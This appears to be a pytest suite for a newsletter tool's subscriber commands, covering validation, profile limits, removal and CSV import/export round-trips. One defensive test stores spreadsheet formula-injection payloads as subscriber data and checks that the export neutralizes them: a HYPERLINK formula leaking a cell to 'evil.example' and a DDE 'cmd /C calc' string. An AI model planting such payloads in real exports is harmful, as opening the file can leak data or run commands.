"""Subscriber management through the ``newsletter subscribers`` commands: validation,
normalization, duplicates, profile updates, removal, CSV import and export."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from newsletter.models import Status
from newsletter.store import open_store
from newsletter.subscribers.profiles import add_subscriber, neutralize_cell, restore_cell

from .conftest import distinct_terms

pytestmark = pytest.mark.both_stores


def _add(run_cli, email: str, *options: str):
    return run_cli("subscribers", "add", email, *options)


def _list(run_cli, *global_options: str) -> list[dict]:
    result = run_cli(*global_options, "subscribers", "list", "--json")
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def _show(run_cli, email: str) -> dict:
    result = run_cli("subscribers", "show", email, "--json")
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def test_added_subscriber_is_listed_active_with_their_profile(run_cli):
    result = _add(
        run_cli,
        "ada@example.org",
        "--interests",
        "spectral graph theory, diffusion models",
        "--categories",
        "cs.LG,math.AP",
        "--timezone",
        "Europe/Berlin",
        "--hour",
        "7",
        "--max-papers",
        "10",
    )
    assert result.exit_code == 0, result.output

    listed = _list(run_cli)

    assert isinstance(listed, list) and len(listed) == 1
    ada = listed[0]
    assert ada["email"] == "ada@example.org"
    assert ada["status"] == "active"
    assert ada["interests"] == "spectral graph theory, diffusion models"
    assert ada["categories"] == ["cs.LG", "math.AP"]
    assert ada["timezone"] == "Europe/Berlin"
    assert ada["hour"] == 7
    assert ada["max_papers"] == 10
    assert ada["consent_at"]


def test_added_subscriber_gets_default_schedule_from_settings(run_cli):
    assert _add(run_cli, "bob@example.org").exit_code == 0

    bob = _list(run_cli)[0]

    assert (bob["timezone"], bob["hour"], bob["max_papers"]) == ("UTC", 7, 5)
    assert bob["categories"] == [] and bob["interests"] == ""


def test_email_domain_is_lower_cased(run_cli):
    assert _add(run_cli, "  Ada.Lovelace@EXAMPLE.ORG ").exit_code == 0

    assert [s["email"] for s in _list(run_cli)] == ["Ada.Lovelace@example.org"]


@pytest.mark.parametrize("again", ["ada@example.org", "ADA@example.org", "Ada@EXAMPLE.ORG"])
def test_duplicate_address_is_refused_case_insensitively(run_cli, again):
    assert _add(run_cli, "ada@example.org", "--interests", "first").exit_code == 0

    result = _add(run_cli, again, "--interests", "second")

    assert result.exit_code == 1
    assert "already" in result.stderr
    assert "ada@example.org" in result.stderr.lower()
    assert "Traceback" not in result.output
    listed = _list(run_cli)
    assert len(listed) == 1 and listed[0]["interests"] == "first"


@pytest.mark.parametrize("address", ["not-an-email", "a@b"])
def test_invalid_address_is_refused_naming_it(run_cli, address):
    result = _add(run_cli, address)

    assert result.exit_code == 1
    assert address in result.stderr
    assert "Traceback" not in result.output
    assert _list(run_cli) == []


@pytest.mark.parametrize(
    ("option", "value", "named"),
    [
        ("--timezone", "Mars/Olympus_Mons", "Mars/Olympus_Mons"),
        # Folders of the timezone database, and a name too long for a file name.
        ("--timezone", "Europe", "unknown timezone 'Europe'"),
        ("--timezone", "America", "unknown timezone 'America'"),
        ("--timezone", "x" * 300, "unknown timezone 'xxx"),
        ("--hour", "25", "25"),
        ("--hour", "-1", "-1"),
        ("--max-papers", "0", "0"),
        ("--max-papers", "51", "51"),
        ("--categories", "cs.LG,not a category!", "category"),
    ],
)
def test_bad_profile_values_are_refused(run_cli, option, value, named):
    result = _add(run_cli, "ada@example.org", option, value)

    assert result.exit_code == 1
    assert named in result.stderr
    assert "Traceback" not in result.output
    assert _list(run_cli) == []


def test_show_finds_subscriber_regardless_of_address_case(run_cli):
    _add(run_cli, "ada@example.org", "--interests", "optimal transport")

    shown = _show(run_cli, "ADA@Example.org")

    assert shown["email"] == "ada@example.org"
    assert shown["interests"] == "optimal transport"


def test_show_unknown_subscriber_is_a_clear_error(run_cli):
    result = run_cli("subscribers", "show", "nobody@example.org")

    assert result.exit_code == 1
    assert "nobody@example.org" in result.stderr


def test_update_changes_interests_status_and_muted_terms(run_cli):
    _add(run_cli, "ada@example.org", "--interests", "old interests", "--categories", "cs.LG")

    result = run_cli(
        "subscribers",
        "update",
        "ada@example.org",
        "--interests",
        "new interests in topology",
        "--status",
        "paused",
        "--muted",
        "blockchain, crypto ,",
        "--json",
    )

    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["status"] == "paused"
    stored = _show(run_cli, "ada@example.org")
    assert stored["interests"] == "new interests in topology"
    assert stored["status"] == "paused"
    assert stored["muted_terms"] == ["blockchain", "crypto"]
    assert stored["categories"] == ["cs.LG"], "fields not given must keep their values"
    assert [s["email"] for s in _list(run_cli)] == ["ada@example.org"]


#: The issue's profile: 16,000 distinct muted terms, the most a 64 KB form holds.
MANY_TERMS = ",".join(distinct_terms(16_000))


@pytest.mark.parametrize(
    ("command", "option", "value", "named"),
    [
        ("update", "--muted", MANY_TERMS, "at most 50 muted terms, not 16000"),
        ("update", "--muted", "survey, " + "x" * 61, "muted terms are limited to 60 characters"),
        ("update", "--follow", ",".join(f"A{i}" for i in range(51)), "at most 50 followed"),
        ("update", "--follow", "B" * 101, "followed authors are limited to 100 characters"),
        ("add", "--categories", ",".join(f"cs.X{i}" for i in range(21)), "at most 20 arXiv"),
        ("add", "--categories", "cs." + "L" * 40, "arXiv categories are limited to 40"),
    ],
)
def test_a_profile_beyond_its_limits_is_refused_naming_the_field_and_limit(
    run_cli, command, option, value, named
):
    _add(run_cli, "bob@example.org", "--interests", "topology")

    result = run_cli("subscribers", command, "ada@example.org", option, value)
    if command == "update":
        result = run_cli("subscribers", command, "bob@example.org", option, value)

    assert result.exit_code == 1
    assert named in result.stderr
    assert "Traceback" not in result.output
    assert len(result.stderr) < 500, "the error does not echo the input back"
    bob = _show(run_cli, "bob@example.org")
    assert (bob["muted_terms"], bob["followed_authors"]) == ([], [])
    assert [s["email"] for s in _list(run_cli)] == ["bob@example.org"]


def test_a_full_profile_is_kept_and_one_more_term_or_author_is_refused(run_cli):
    terms = [f"{i:02d}" + "t" * 58 for i in range(50)]
    authors = [f"{i:02d}" + "a" * 98 for i in range(50)]
    categories = [f"cs.{chr(65 + i)}" for i in range(20)]
    _add(run_cli, "ada@example.org", "--categories", ",".join(categories))
    full = ("--muted", ",".join(terms), "--follow", ",".join(authors))

    result = run_cli("subscribers", "update", "ada@example.org", *full)

    assert result.exit_code == 0, result.output
    ada = _show(run_cli, "ada@example.org")
    assert (ada["muted_terms"], ada["followed_authors"]) == (terms, authors)
    assert ada["categories"] == categories
    for option, items in [("--muted", terms), ("--follow", authors)]:
        result = run_cli(
            "subscribers", "update", "ada@example.org", option, ",".join([*items, "x"])
        )
        assert result.exit_code == 1 and "at most 50" in result.stderr
    assert _show(run_cli, "ada@example.org") == ada


def test_the_store_refuses_a_profile_beyond_its_limits_from_any_caller(settings):
    terms = distinct_terms(16_000)
    with open_store(settings.db) as store:
        with pytest.raises(ValueError, match="at most 50 muted terms"):
            store.add_subscriber(
                "ada@example.org",
                status=Status.ACTIVE,
                timezone="UTC",
                delivery_hour=7,
                max_papers=5,
                muted_terms=terms,
                consent_source="test",
            )
        assert store.list_subscribers() == []
        bob = add_subscriber(store, settings, "bob@example.org", interests="topology")
        for field, value, named in [
            ("muted_terms", terms, "muted terms"),
            ("followed_authors", ["x" * 101], "followed authors"),
            ("categories", ["cs.LG"] * 21, "arXiv categories"),
            ("interests", "x" * 2001, "interests"),
        ]:
            with pytest.raises(ValueError, match=named):
                store.update_subscriber(bob.id, **{field: value})
        assert store.get_subscriber(bob.id) == bob


def test_paused_subscriber_is_not_listed_as_active(run_cli):
    _add(run_cli, "ada@example.org")
    _add(run_cli, "bob@example.org")
    run_cli("subscribers", "update", "bob@example.org", "--status", "paused")

    active = json.loads(run_cli("subscribers", "list", "--status", "active", "--json").stdout)

    assert [s["email"] for s in active] == ["ada@example.org"]


def test_update_with_invalid_hour_changes_nothing(run_cli):
    _add(run_cli, "ada@example.org", "--hour", "6")

    result = run_cli("subscribers", "update", "ada@example.org", "--hour", "24")

    assert result.exit_code == 1
    assert _show(run_cli, "ada@example.org")["hour"] == 6


def test_remove_with_yes_forgets_the_subscriber(run_cli):
    _add(run_cli, "ada@example.org")
    _add(run_cli, "bob@example.org")

    result = run_cli("subscribers", "remove", "ada@example.org", "--yes")

    assert result.exit_code == 0, result.output
    assert [s["email"] for s in _list(run_cli)] == ["bob@example.org"]
    assert run_cli("subscribers", "show", "ada@example.org").exit_code == 1


def test_remove_without_confirmation_keeps_the_subscriber(run_cli):
    _add(run_cli, "ada@example.org")

    result = run_cli("subscribers", "remove", "ada@example.org", input="n\n")

    assert result.exit_code == 1
    assert [s["email"] for s in _list(run_cli)] == ["ada@example.org"]


def _write_csv(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def test_import_adds_good_rows_and_reports_bad_ones_by_line(run_cli, tmp_path: Path):
    path = _write_csv(
        tmp_path / "people.csv",
        "email,interests,categories,timezone,hour,max_papers\n"  # line 1
        'ada@example.org,graph theory,"cs.LG,math.CO",Europe/Berlin,6,8\n'  # line 2
        "not-an-email,whatever,,,,\n"  # line 3
        "bob@example.org,protein folding,q-bio.BM,,,\n"  # line 4
        "ADA@example.org,a duplicate,,,,\n"  # line 5
        "carol@example.org,,,,,\n",  # line 6
    )

    result = run_cli("subscribers", "import", str(path), "--json")

    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    assert (report["added"], report["skipped"]) == (3, 2)
    assert len(report["errors"]) == 2
    assert "line 3" in report["errors"][0] and "not-an-email" in report["errors"][0]
    assert "line 5" in report["errors"][1]
    by_email = {s["email"]: s for s in _list(run_cli)}
    assert set(by_email) == {"ada@example.org", "bob@example.org", "carol@example.org"}
    ada = by_email["ada@example.org"]
    assert ada["interests"] == "graph theory"
    assert ada["categories"] == ["cs.LG", "math.CO"]
    assert (ada["timezone"], ada["hour"], ada["max_papers"]) == ("Europe/Berlin", 6, 8)
    assert by_email["carol@example.org"]["max_papers"] == 5


def test_import_reports_a_row_beyond_the_limits_by_line_and_adds_the_others(
    run_cli, tmp_path: Path
):
    path = _write_csv(
        tmp_path / "people.csv",
        "email,interests,categories,muted_terms\n"  # line 1
        "ada@example.org,graph theory,cs.LG,survey\n"  # line 2
        f'eve@example.org,graph theory,,"{MANY_TERMS}"\n'  # line 3
        f"mallory@example.org,{'x' * 2001},,\n"  # line 4
        f"trudy@example.org,{'x' * 200_000},,\n"  # line 5: more than csv reads in a field
        "bob@example.org,protein folding,,\n",  # line 6
    )

    result = run_cli("subscribers", "import", str(path), "--json")

    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    assert (report["added"], report["skipped"]) == (2, 3)
    assert "line 3" in report["errors"][0] and "at most 50 muted terms" in report["errors"][0]
    assert "line 4" in report["errors"][1] and "2000 characters" in report["errors"][1]
    assert "line 5" in report["errors"][2] and "field limit" in report["errors"][2]
    assert [s["email"] for s in _list(run_cli)] == ["ada@example.org", "bob@example.org"]


def test_import_reports_a_timezone_folder_and_reads_the_rows_after_it(run_cli, tmp_path: Path):
    path = _write_csv(
        tmp_path / "people.csv",
        "email,interests,timezone\n"
        "ada@example.org,graph theory,Europe\n"  # line 2: a folder, not a timezone
        f"bob@example.org,protein folding,{'x' * 300}\n"  # line 3: too long for a file name
        "carol@example.org,knots,US\n"  # line 4
        "dan@example.org,lattices,Europe/Berlin\n",
    )

    result = run_cli("subscribers", "import", str(path), "--json")

    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    assert (report["added"], report["skipped"]) == (1, 3)
    assert "line 2" in report["errors"][0] and "'Europe'" in report["errors"][0]
    assert "line 3" in report["errors"][1] and "line 4" in report["errors"][2]
    assert [(s["email"], s["timezone"]) for s in _list(run_cli)] == [
        ("dan@example.org", "Europe/Berlin")
    ]


def test_import_without_email_header_is_refused(run_cli, tmp_path: Path):
    path = _write_csv(tmp_path / "people.csv", "ada@example.org,graph theory\n")

    result = run_cli("subscribers", "import", str(path))

    assert result.exit_code == 1
    assert "email" in result.stderr
    assert _list(run_cli) == []


def _profile(subscriber: dict) -> tuple:
    return (
        subscriber["email"],
        subscriber["interests"],
        subscriber["categories"],
        subscriber["timezone"],
        subscriber["hour"],
        subscriber["max_papers"],
    )


def test_export_csv_round_trips_through_import(run_cli, tmp_path: Path):
    _add(
        run_cli,
        "ada@example.org",
        "--interests",
        'graphs, "quoted" words; and commas',
        "--categories",
        "cs.LG,math.AP",
        "--timezone",
        "Europe/Berlin",
        "--hour",
        "6",
        "--max-papers",
        "12",
    )
    _add(run_cli, "Bob@example.org", "--interests", "Müller-Schmidt spaces")
    exported = run_cli("subscribers", "export")
    assert exported.exit_code == 0, exported.output
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert [r["email"] for r in rows] == ["ada@example.org", "Bob@example.org"]
    path = _write_csv(tmp_path / "export.csv", exported.stdout)

    imported = run_cli("--db", "fresh.db", "subscribers", "import", str(path), "--json")

    assert imported.exit_code == 0, imported.output
    assert json.loads(imported.stdout)["added"] == 2
    original = [_profile(s) for s in _list(run_cli)]
    copy = [_profile(s) for s in _list(run_cli, "--db", "fresh.db")]
    assert copy == original


def test_export_import_round_trip_keeps_subscriber_status(run_cli, tmp_path: Path):
    """An exported unsubscribed (or paused) subscriber must not come back as active."""
    _add(run_cli, "ada@example.org")
    _add(run_cli, "gone@example.org")
    _add(run_cli, "resting@example.org")
    run_cli("subscribers", "update", "gone@example.org", "--status", "unsubscribed")
    run_cli("subscribers", "update", "resting@example.org", "--status", "paused")
    path = _write_csv(tmp_path / "export.csv", run_cli("subscribers", "export").stdout)

    run_cli("--db", "fresh.db", "subscribers", "import", str(path))

    statuses = {s["email"]: s["status"] for s in _list(run_cli, "--db", "fresh.db")}
    assert statuses == {
        "ada@example.org": "active",
        "gone@example.org": "unsubscribed",
        "resting@example.org": "paused",
    }


HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click")'


def test_export_neutralizes_formulas_and_import_takes_them_back_as_they_were(
    run_cli, settings, tmp_path: Path
):
    """An unconfirmed web sign-up's interests are anyone's text: a spreadsheet opening the
    export must not run them; the project's own import reads them back unchanged."""
    with open_store(settings.db) as store:
        add_subscriber(
            store, settings, "eve@example.org", interests=HYPERLINK, status=Status.PENDING
        )
        add_subscriber(store, settings, "=1+1@example.org", interests="+cmd|' /C calc'!A0")
        add_subscriber(store, settings, "-2+3@example.org", interests="@SUM(1+1)")
        add_subscriber(
            store, settings, "'quote@example.org", interests="'=already quoted", muted_terms="-x"
        )
    exported = run_cli("subscribers", "export")
    assert exported.exit_code == 0, exported.output

    rows = list(csv.reader(io.StringIO(exported.stdout)))[1:]
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert rows[0][:2] == ["eve@example.org", "'" + HYPERLINK]
    assert [rows[1][0], rows[2][0], rows[3][0]] == [
        "'=1+1@example.org",
        "'-2+3@example.org",
        "''quote@example.org",
    ]
    assert [rows[1][1], rows[2][1], rows[3][1], rows[3][6]] == [
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)",
        "''=already quoted",
        "'-x",
    ]

    path = _write_csv(tmp_path / "export.csv", exported.stdout)
    imported = run_cli("--db", "fresh.db", "subscribers", "import", str(path), "--json")
    assert json.loads(imported.stdout)["added"] == 4
    profile = ["email", "interests", "muted_terms", "status"]
    original = [[s[k] for k in profile] for s in _list(run_cli)]
    assert [[s[k] for k in profile] for s in _list(run_cli, "--db", "fresh.db")] == original
    assert original[0] == ["eve@example.org", HYPERLINK, [], "pending"]


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@x", "\tx", "\rx", "'=1", "'", "''", "a=b"])
def test_a_neutralized_cell_is_restored_exactly(value):
    neutral = neutralize_cell(value)
    assert neutral[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert restore_cell(neutral) == value


def test_export_json_lists_every_subscriber(run_cli):
    _add(run_cli, "ada@example.org")
    _add(run_cli, "bob@example.org")
    run_cli("subscribers", "update", "bob@example.org", "--status", "paused")

    result = run_cli("subscribers", "export", "--format", "json")

    exported = json.loads(result.stdout)
    assert {s["email"]: s["status"] for s in exported} == {
        "ada@example.org": "active",
        "bob@example.org": "paused",
    }


def test_subscriber_changes_are_logged_as_events(run_cli, settings):
    _add(run_cli, "ada@example.org")
    run_cli("subscribers", "update", "ada@example.org", "--status", "paused")

    with open_store(settings.db) as store:
        status_events = store.events("subscriber.status")

    assert len(status_events) == 1
    assert status_events[0]["detail"] == {"old": "active", "new": "paused"}
